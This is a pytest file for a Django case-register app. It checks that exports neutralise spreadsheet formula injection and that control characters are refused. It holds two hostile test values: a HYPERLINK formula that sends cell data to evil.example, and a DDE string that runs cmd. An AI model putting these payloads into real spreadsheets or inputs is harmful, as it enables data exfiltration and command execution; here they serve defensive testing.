"""Attacks through a register's inputs and exports (issue 15, points 6 and 9).

- A formula typed as a name (an applicant, a unit) stays text in every spreadsheet fazhi writes.
- A control character is refused at every input of a register (web form, import, API) with a
  Chinese message that names where it is, and nothing is written.
- Text stored before inputs refused them (put straight into the database here) never makes an
  export or an error workbook fail: it comes out with U+FFFD in place.
"""

import csv
import datetime
import html
import io
import json
import re

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from fazhi.api import tokens
from fazhi.core import actions as core_actions
from fazhi.core.models import AuditEntry, UnitKind
from fazhi.core.roles import Role
from fazhi.reconsideration import actions
from fazhi.reconsideration.models import ReconsiderationCase

from .files import HEADERS, case

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&B3,"查看")'
CONTROL = "ab\x01cd"
REFUSED = "第 3 个字符是不可见的控制字符（U+0001），请删除后重新输入。"
UPLOAD = "/registers/reconsideration/import/"
API = "/api/registers/reconsideration/records"
APPLICANT = HEADERS.index("申请人")


@pytest.fixture
def officer(tree, make_user):
    return make_user("fuyi", tree["county"], Role.RECONSIDERATION)


@pytest.fixture
def logged_in(client, officer):
    client.force_login(officer)
    return client


def api_client(user) -> tuple[Client, dict]:
    _, secret = tokens.create_token(None, user, "测试")
    return Client(), {"HTTP_AUTHORIZATION": f"Bearer {secret}"}


def counts() -> tuple[int, int]:
    return ReconsiderationCase.objects.count(), AuditEntry.objects.count()


def page_text(response) -> str:
    text = re.sub(r"<[^>]+>", " ", response.content.decode())
    return re.sub(r"\s+", " ", html.unescape(text))


def csv_upload(rows: list[list[str]]) -> SimpleUploadedFile:
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return SimpleUploadedFile("复议.csv", ("\ufeff" + buffer.getvalue()).encode("utf-8"))


def new_case(officer, number="古政复〔2024〕1号", **facts):
    values = {
        "applicant": "张某",
        "respondent": "古丈县市场监督管理局",
        "received_date": "2024-02-05",
    }
    values.update(facts)
    values["received_date"] = datetime.date.fromisoformat(values["received_date"])
    return actions.register_case(officer, unit=officer.unit, number=number, **values)


def xlsx_sheet(response):
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


# --- point 6: formulas stay text ----------------------------------------------------------


def test_an_applicant_typed_as_a_formula_through_the_api_is_text_in_every_export(
    logged_in, officer
):
    api, auth = api_client(officer)
    payload = {
        "unit": "433126",
        "number": "古政复〔2024〕9号",
        "applicant": FORMULA,
        "respondent": "@SUM(1+1)*cmd|' /C calc'!A0",
        "received_date": "2024-02-05",
    }
    created = api.post(API, payload, content_type="application/json", **auth)
    assert created.status_code == 201, created.json()

    sheet = xlsx_sheet(logged_in.get(reverse("imports:export", args=["reconsideration", "xlsx"])))
    row = [cell for cell in sheet[2]]
    # openpyxl reads a formula cell as data type "f"; a string cell is never evaluated.
    assert (row[APPLICANT].data_type, row[APPLICANT].value) == ("s", FORMULA)
    respondent = row[HEADERS.index("被申请人")]
    assert (respondent.data_type, respondent.value) == ("s", payload["respondent"])

    exported = logged_in.get(reverse("imports:export", args=["reconsideration", "csv"]))
    lines = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert lines[1][APPLICANT] == "'" + FORMULA


def test_a_unit_named_as_a_formula_is_text_in_the_comparison_export(client, tree, make_user):
    core_actions.save_unit(
        None, code="433122", name=FORMULA, kind=UnitKind.COUNTY, parent=tree["prefecture"]
    )
    leader = make_user("zhouzhang", tree["prefecture"], Role.LEADER)
    client.force_login(leader)
    response = client.get(reverse("dashboard:compare"), {"year": 2024, "format": "xlsx"})
    sheet = xlsx_sheet(response)
    names = {sheet.cell(row, 1).value: sheet.cell(row, 2) for row in range(4, sheet.max_row + 1)}
    assert (names["433122"].data_type, names["433122"].value) == ("s", FORMULA)
    assert (names["433126"].data_type, names["433126"].value) == ("s", "古丈县司法局")


# --- point 9: control characters are refused at every input -------------------------------


def test_an_imported_control_character_is_refused_naming_row_and_column(logged_in, error_dir):
    before = counts()
    rows = [HEADERS, *([case("古政复〔2024〕1号", 申请人=CONTROL).get(h, "") for h in HEADERS],)]
    response = logged_in.post(UPLOAD, {"file": csv_upload(rows)})
    assert response.status_code == 200
    assert f"第2行 申请人 {REFUSED}" in page_text(response)
    assert counts() == before

    # The error workbook holds the row as uploaded, the invisible character made visible.
    url = re.search(r'href="([^"]+/import/errors/[^"]+\.xlsx)"', response.content.decode())[1]
    sheet = xlsx_sheet(logged_in.get(url))
    assert sheet.cell(2, APPLICANT + 1).value == "ab\ufffdcd"
    assert REFUSED in sheet.cell(2, len(HEADERS) + 1).value


def test_a_header_with_a_control_character_gives_a_chinese_error_and_its_workbook(
    logged_in, error_dir
):
    before = counts()
    headers = ["申请\x01人" if h == "申请人" else h for h in HEADERS]
    rows = [headers, [case("古政复〔2024〕1号").get(h, "") for h in HEADERS]]
    response = logged_in.post(UPLOAD, {"file": csv_upload(rows)})
    assert response.status_code == 200
    text = page_text(response)
    assert "第1行 申请\ufffd人 第 3 个字符是不可见的控制字符（U+0001）" in text
    assert counts() == before

    url = re.search(r'href="([^"]+/import/errors/[^"]+\.xlsx)"', response.content.decode())[1]
    download = logged_in.get(url)
    assert download.status_code == 200
    cells = [c.value for row in openpyxl.load_workbook(io.BytesIO(download.content)).active
             for c in row]  # fmt: skip
    assert "申请\ufffd人" in cells
    assert not any(isinstance(v, str) and "\x01" in v for v in cells)


def test_the_web_form_refuses_a_control_character_and_saves_nothing(logged_in, tree, officer):
    before = counts()
    form = {
        "unit": tree["county"].pk,
        "number": "古政复〔2024〕7号",
        "applicant": CONTROL,
        "respondent": "古丈县公安局",
        "act_type": "penalty",
        "received_date": "2024-02-05",
    }
    response = logged_in.post("/reconsideration/new/", form)
    assert response.status_code == 200
    assert f"「申请人」{REFUSED}" in page_text(response)
    assert counts() == before

    saved = new_case(officer)
    form = {
        "number": saved.number,
        "applicant": "张某",
        "respondent": "古丈县\x7f公安局",
        "act_type": "penalty",
    }
    response = logged_in.post(f"/reconsideration/{saved.pk}/edit/", form)
    assert response.status_code == 200
    assert "「被申请人」第 4 个字符是不可见的控制字符（U+007F）" in page_text(response)
    saved.refresh_from_db()
    assert saved.respondent == "古丈县市场监督管理局"


def test_the_api_refuses_a_control_character_and_saves_nothing(officer):
    api, auth = api_client(officer)
    before = counts()
    payload = {
        "unit": "433126",
        "number": "古政复〔2024〕9号",
        "applicant": CONTROL,
        "respondent": "古丈县公安局",
        "received_date": "2024-02-05",
    }
    response = api.post(API, payload, content_type="application/json", **auth)
    assert response.status_code == 422
    assert REFUSED in json.dumps(response.json(), ensure_ascii=False)
    assert counts() == before

    saved = new_case(officer)
    before = counts()
    for text in ("古丈县\x1b公安局", "古丈县\ue001公安局"):
        response = api.patch(
            f"{API}/{saved.pk}",
            {"respondent": text},
            content_type="application/json",
            **auth,
        )
        assert response.status_code == 422
        assert "第 4 个字符是" in json.dumps(response.json(), ensure_ascii=False)
    saved.refresh_from_db()
    assert saved.respondent == "古丈县市场监督管理局"
    assert counts() == before


def test_save_record_refuses_a_control_character_on_every_path(officer):
    """Steps and actions of every register end in save_record: a text field changed to carry a
    control character is refused there, whichever form or action it came from."""
    from fazhi.core.errors import RecordInvalid

    before = counts()
    with pytest.raises(RecordInvalid) as refused:
        new_case(officer, applicant="张\x00某")
    assert "「申请人」第 2 个字符是不可见的控制字符（U+0000）" in str(refused.value)
    assert counts() == before


# --- stored text never breaks an output ---------------------------------------------------


def test_control_characters_stored_before_the_check_never_break_an_export(logged_in, officer):
    saved = new_case(officer, applicant="张某")
    # Straight into the database, as rows written before inputs refused them.
    ReconsiderationCase.objects.filter(pk=saved.pk).update(
        applicant=CONTROL, respondent="古丈县\x1f\x85\uffff局"
    )
    shown = "ab\ufffdcd"

    sheet = xlsx_sheet(logged_in.get(reverse("imports:export", args=["reconsideration", "xlsx"])))
    assert sheet.cell(2, APPLICANT + 1).value == shown
    assert sheet.cell(2, HEADERS.index("被申请人") + 1).value == "古丈县\ufffd\ufffd\ufffd局"

    exported = logged_in.get(reverse("imports:export", args=["reconsideration", "csv"]))
    assert exported.status_code == 200
    lines = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert lines[1][APPLICANT] == shown

    exported = logged_in.get(reverse("imports:export", args=["reconsideration", "json"]))
    assert exported.status_code == 200
    assert json.loads(exported.content)[0]["申请人"] == shown


# --- what the officer sees ----------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_the_upload_page_shows_where_a_control_character_is(
    browser_page, tree, make_user, tmp_path, error_dir
):
    from fazhi.conftest import browser_login

    make_user("fuyi", tree["county"], Role.RECONSIDERATION)
    page = browser_page
    browser_login(page, "fuyi")
    cell = [HEADERS, [case("古政复〔2024〕1号", 申请人=CONTROL).get(h, "") for h in HEADERS]]
    header = [["申请\x01人" if h == "申请人" else h for h in HEADERS], cell[1]]
    for name, rows in (("cell", cell), ("header", header)):
        path = tmp_path / f"{name}.csv"
        path.write_bytes(csv_upload(rows).read())
        for width, height in ((1366, 768), (390, 844)):
            page.set_viewport_size({"width": width, "height": height})
            page.goto(page.base_url + UPLOAD)
            page.set_input_files("#id_file", str(path))
            page.click("button.primary")
            errors = page.inner_text("#import-errors")
            assert "不可见的控制字符（U+0001）" in errors
            page.screenshot(path=tmp_path / f"{name}-{width}.png", full_page=True)
    assert ReconsiderationCase.objects.count() == 0
